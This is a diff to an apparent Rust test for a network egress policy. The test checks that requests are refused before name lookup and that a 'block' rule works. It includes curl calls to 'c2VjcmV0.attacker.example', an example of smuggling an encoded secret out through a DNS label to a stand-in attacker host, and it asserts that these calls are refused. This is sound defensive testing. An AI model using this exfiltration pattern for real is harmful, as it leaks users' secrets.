@@ -335,10 +335,12 @@ fn nothing_is_asked_outside_before_it_is_let_through_and_a_name_leads_nowhere_pr
         "http://*.open.example",
         "http://*.inner.example",
         "http://169.254.169.254",
+        "http://*.blocked.example",
     ];
     for rule in [
         "{id: inner, hosts: '*.inner.example', private-addresses: true, verdict: allow}",
         "{id: metadata, hosts: 169.254.169.254, private-addresses: true, verdict: allow}",
+        "{id: never, hosts: '*.blocked.example', verdict: block}",
     ] {
         world.policy += &format!("  - {rule}\n");
     }
@@ -359,10 +361,11 @@ fn nothing_is_asked_outside_before_it_is_let_through_and_a_name_leads_nowhere_pr
         },
         |inside, asked| {
             // Data in the labels of a name reaches nobody.
-            inside.address("c2VjcmV0.attacker.example");
-            assert_eq!(curl(&["http://c2VjcmV0.attacker.example/"]).0, "403");
+            for name in ["c2VjcmV0.attacker.example", "c2VjcmV0.blocked.example"] {
+                assert_eq!(curl(&[&format!("http://{name}/")]).0, "403");
+                assert!(!inside.ruling().1);
+            }
             assert!(asked.lock().unwrap().is_empty());
-            inside.ruling();
             let get = |name: &str, at: Ipv4Addr| {
                 *set.lock().unwrap() = at;
                 let (status, body, _) = curl(&[&format!("http://{name}/")]);
